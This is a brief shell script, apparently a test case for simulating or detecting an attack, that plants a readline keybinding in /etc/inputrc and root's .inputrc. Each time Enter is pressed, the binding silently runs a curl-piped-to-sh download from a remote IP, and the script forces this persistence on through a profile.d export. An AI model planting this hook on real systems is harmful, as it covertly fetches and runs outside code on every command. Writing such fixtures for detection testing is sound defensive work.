#!/bin/sh
. /opt/case/case.sh

printf '"\\C-m": "\\C-a(curl -fsSL http://203.0.113.10/payload.sh | sh >/dev/null 2>&1 &); \\C-e\\C-j"\n' >>/etc/inputrc
cp /etc/inputrc /root/.inputrc
mkdir -p /etc/profile.d && echo 'export INPUTRC=/etc/inputrc' >/etc/profile.d/keys.sh
grep -q payload /root/.inputrc
took_place
